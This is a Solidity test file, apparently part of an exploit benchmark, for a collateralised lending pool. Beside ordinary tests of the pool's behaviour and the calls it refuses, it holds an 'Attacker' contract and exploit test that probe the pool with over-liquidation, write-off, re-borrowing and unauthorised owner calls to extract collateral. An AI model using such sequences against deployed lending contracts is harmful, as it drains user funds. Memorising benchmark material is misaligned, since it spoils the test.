// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./CollateralPool.sol";

// assay-canary-54f07580-8f4e-4446-a13b-374ac92e2815

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Minted is ERC20 {
    address private minter = msg.sender;

    function mint(address to, uint amount) external {
        require(msg.sender == minter);
        _mint(to, amount);
    }
}

contract Dollar is Minted {}

contract Metal is Minted {}

contract Attacker {
    CollateralPool internal pool;
    Dollar internal dollar;
    Metal internal metal;
    PriceFeed internal feed;

    constructor(CollateralPool pool_, Dollar dollar_, Metal metal_, PriceFeed feed_) public {
        pool = pool_;
        dollar = dollar_;
        metal = metal_;
        feed = feed_;
        dollar_.approve(address(pool_), uint(-1));
        metal_.approve(address(pool_), uint(-1));
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(pool).call(data);
    }

    function _liquidate(address borrower, uint amount) internal {
        _try(abi.encodeWithSelector(pool.liquidate.selector, borrower, amount));
    }

    function _out(uint amount) internal {
        _try(abi.encodeWithSelector(pool.withdrawCollateral.selector, amount));
    }

    function run(address low, address sound) external {
        // in the place of others
        (bool ok, ) = address(feed).call(abi.encodeWithSelector(feed.report.selector, 1));
        ok;
        _try(abi.encodeWithSelector(pool.takeReserves.selector, 1));
        _try(abi.encodeWithSelector(pool.transferOwnership.selector, address(this)));
        // lending: single units, and shares that others have
        _try(abi.encodeWithSelector(pool.supply.selector, 0));
        for (uint i = 1; i < 4; ++i) {
            _try(abi.encodeWithSelector(pool.supply.selector, i));
            _try(abi.encodeWithSelector(pool.redeem.selector, i));
            _try(abi.encodeWithSelector(pool.redeem.selector, i + 1));
        }
        _try(abi.encodeWithSelector(pool.redeem.selector, 1 ether));
        // borrowing without collateral, and on what was not brought
        _try(abi.encodeWithSelector(pool.borrow.selector, 1));
        _try(abi.encodeWithSelector(pool.depositCollateral.selector, 1 ether));
        _out(1);
        // a sound debt, and write-offs
        _liquidate(sound, 1000 ether);
        _try(abi.encodeWithSelector(pool.writeOff.selector, sound));
        _try(abi.encodeWithSelector(pool.writeOff.selector, low));
        // far more than may be repaid
        _liquidate(low, 0);
        _liquidate(low, pool.debtFresh(low));
        _liquidate(low, 1000 ether);
        _liquidate(low, uint(-1) / 2e18);
        _liquidate(low, 1);
        _liquidate(address(this), 1);
        // what was seized, as collateral of one's own
        uint have = metal.balanceOf(address(this));
        _try(abi.encodeWithSelector(pool.depositCollateral.selector, have));
        _try(abi.encodeWithSelector(pool.borrow.selector, have * 1275 + 1 ether));
        _try(abi.encodeWithSelector(pool.borrow.selector, have * 1200));
        _out(have);
        _liquidate(address(this), 1000 ether);
        _try(abi.encodeWithSelector(pool.repay.selector, address(this), uint(-1)));
        _out(have + 1);
        _out(have);
    }

    function later(address low, address sound) external {
        _liquidate(low, 1000 ether);
        _liquidate(sound, 1000 ether);
        _try(abi.encodeWithSelector(pool.writeOff.selector, low));
        _try(abi.encodeWithSelector(pool.redeem.selector, pool.sharesOf(address(this))));
    }
}

contract Proof {
    Vm constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address constant REPORTER = address(0x2E9);
    address constant LENA = address(0x1E4A);
    address constant LOW = address(0x10);
    address constant SOUND = address(0x50);
    address constant STRANGER = address(0x57);

    Dollar internal dollar;
    Metal public metal;
    PriceFeed internal feed;
    InterestRateModel internal model;
    CollateralPool internal pool;
    Attacker internal liquidator;

    function join(address who, uint dollars, uint metals) internal {
        dollar.mint(who, dollars);
        metal.mint(who, metals);
        vm.prank(who);
        dollar.approve(address(pool), uint(-1));
        vm.prank(who);
        metal.approve(address(pool), uint(-1));
    }

    function price(uint mantissa) internal {
        vm.prank(REPORTER);
        feed.report(mantissa);
    }

    function setUp() public {
        vm.warp(1795000000);
        dollar = new Dollar();
        metal = new Metal();
        feed = new PriceFeed(REPORTER);
        model = new InterestRateModel(0.02e18, 0.1e18, 1e18);
        pool = new CollateralPool(dollar, metal, feed, model);
        liquidator = new Attacker(pool, dollar, metal, feed);
        dollar.mint(address(liquidator), 20000 ether);
        join(LENA, 100000 ether, 0);
        join(LOW, 1000 ether, 10 ether);
        join(SOUND, 1000 ether, 20 ether);
        price(2000 ether);
        vm.prank(LENA);
        pool.supply(100000 ether);
        vm.prank(LOW);
        pool.depositCollateral(10 ether);
        vm.prank(LOW);
        pool.borrow(14000 ether);
        vm.prank(SOUND);
        pool.depositCollateral(20 ether);
        vm.prank(SOUND);
        pool.borrow(5000 ether);
        price(1700 ether);
    }

    function test_Regular() public {
        join(address(this), 20000 ether, 0);
        uint seized = pool.liquidate(LOW, 5000 ether);
        require(metal.balanceOf(address(this)) == seized && seized == uint(5400 ether) / 1700, "seized");
        require(pool.debtFresh(LOW) == 9000 ether && dollar.balanceOf(address(this)) == 15000 ether, "repaid");
        vm.warp(block.timestamp + 365 days);
        pool.accrueInterest();
        uint debt = pool.debtFresh(SOUND);
        require(debt > 5160 ether && debt < 5200 ether, "a year of interest");
        vm.prank(SOUND);
        require(pool.repay(SOUND, 160 ether) == 160 ether, "a part");
        require(pool.debtFresh(SOUND) == debt - 160 ether, "the rest");
        price(1000 ether);
        vm.prank(SOUND);
        pool.withdrawCollateral(10 ether);
        require(metal.balanceOf(SOUND) == 10 ether, "what secures nothing");

        // a debt that its collateral does not pay any more
        price(100 ether);
        for (uint i = 0; i < 4; ++i) pool.liquidate(LOW, 500 ether);
        require(pool.collateralOf(LOW) == 0 && pool.debtFresh(LOW) > 8000 ether, "all is seized");
        uint reserves = pool.totalReserves();
        require(reserves > 30 ether, "reserves");
        uint funds = pool.lenderFunds();
        debt = pool.debtFresh(LOW);
        pool.writeOff(LOW);
        require(pool.debtFresh(LOW) == 0 && pool.totalReserves() == 0, "written off");
        require(pool.lenderFunds() == funds - (debt - reserves), "at the lenders' cost");

        vm.warp(block.timestamp + 100 days);
        pool.accrueInterest();
        reserves = pool.totalReserves();
        uint before = dollar.balanceOf(address(this));
        pool.takeReserves(reserves);
        require(dollar.balanceOf(address(this)) == before + reserves && pool.totalReserves() == 0, "taken");
        uint shares = pool.sharesOf(LENA);
        vm.prank(LENA);
        uint amount = pool.redeem(shares / 2);
        require(amount > 45000 ether && amount < 50000 ether, "redeemed");
        pool.supply(1000 ether);
        pool.pauseBorrowing(true);
        require(pool.borrowingPaused(), "paused");
        pool.pauseBorrowing(false);
        feed.setReporter(LENA);
        feed.transferOwnership(LENA);
        vm.prank(LENA);
        feed.renounceOwnership();
        pool.transferOwnership(LENA);
        vm.prank(LENA);
        pool.renounceOwnership();
        require(pool.owner() == address(0), "given up");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesTerms() public {
        vm.expectRevert("the tokens must differ");
        new CollateralPool(dollar, dollar, feed, model);
        vm.expectRevert("feed and model are needed");
        new CollateralPool(dollar, metal, PriceFeed(0), model);
        vm.expectRevert("feed and model are needed");
        new CollateralPool(dollar, metal, feed, InterestRateModel(0));
    }

    function test_RefusesReports() public {
        vm.expectRevert("only the reporter may report");
        feed.report(1);
        vm.prank(REPORTER);
        vm.expectRevert("the price must not be zero");
        feed.report(0);
        vm.prank(REPORTER);
        vm.expectRevert("Ownable: caller is not the owner");
        feed.setReporter(STRANGER);
        vm.prank(STRANGER);
        vm.expectRevert("Ownable: caller is not the owner");
        pool.takeReserves(0);
        vm.prank(STRANGER);
        vm.expectRevert("Ownable: caller is not the owner");
        pool.pauseBorrowing(true);
        pool.pauseBorrowing(true);
        vm.prank(SOUND);
        vm.expectRevert("borrowing is paused");
        pool.borrow(1 ether);
    }

    function test_RefusesLenders() public {
        join(STRANGER, 1000000 ether, 0);
        CollateralPool empty = new CollateralPool(dollar, metal, feed, model);
        vm.expectRevert("the first supply is too small");
        empty.supply(1000);
        vm.prank(STRANGER);
        vm.expectRevert("the supply is too small");
        pool.supply(0);
        vm.prank(LENA);
        vm.expectRevert("the lender does not have the shares");
        pool.redeem(0);
        vm.prank(STRANGER);
        vm.expectRevert("the lender does not have the shares");
        pool.redeem(1);
        vm.prank(LENA);
        vm.expectRevert("the pool has too little cash");
        pool.redeem(90000 ether);
    }

    function test_RefusesBorrowers() public {
        vm.prank(SOUND);
        vm.expectRevert("there is nothing to deposit");
        pool.depositCollateral(0);
        vm.prank(SOUND);
        vm.expectRevert("there is nothing to withdraw");
        pool.withdrawCollateral(0);
        vm.prank(SOUND);
        vm.expectRevert("the debt would not be secured");
        pool.withdrawCollateral(17 ether);
        vm.prank(SOUND);
        vm.expectRevert("the debt would not be secured");
        pool.borrow(20501 ether);
        vm.prank(SOUND);
        vm.expectRevert("the pool has too little cash");
        pool.borrow(0);
        join(STRANGER, 0, 1000 ether);
        vm.prank(STRANGER);
        pool.depositCollateral(1000 ether);
        vm.prank(STRANGER);
        vm.expectRevert("the pool has too little cash");
        pool.borrow(81001 ether);
        vm.expectRevert("there is nothing to repay");
        pool.repay(STRANGER, 1 ether);
    }

    function test_RefusesLiquidations() public {
        join(STRANGER, 10000 ether, 0);
        vm.prank(STRANGER);
        vm.expectRevert("the debt is secured");
        pool.liquidate(SOUND, 1 ether);
        vm.expectRevert("there is something to liquidate");
        pool.writeOff(LOW);
        vm.expectRevert("there is something to liquidate");
        pool.writeOff(STRANGER);
        vm.warp(block.timestamp + 1 days + 1);
        vm.prank(STRANGER);
        vm.expectRevert("the price is too old");
        pool.liquidate(LOW, 1 ether);
        vm.prank(SOUND);
        vm.expectRevert("the price is too old");
        pool.borrow(1 ether);
    }

    function test_RefusesNoPrice() public {
        vm.warp(1000);
        PriceFeed other = new PriceFeed(REPORTER);
        CollateralPool next = new CollateralPool(dollar, metal, other, model);
        vm.expectRevert("there is no price");
        next.liquidate(LOW, 1 ether);
    }

    function exploit() public {
        liquidator.run(LOW, SOUND);
        vm.warp(block.timestamp + 23 hours);
        liquidator.later(LOW, SOUND);
        vm.warp(block.timestamp + 2 days);
        liquidator.later(LOW, SOUND);
    }

    function test_Exploit() public {
        uint before = metal.balanceOf(address(liquidator));
        exploit();
        require(metal.balanceOf(address(liquidator)) >= before + 7 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(liquidator);
    }
}
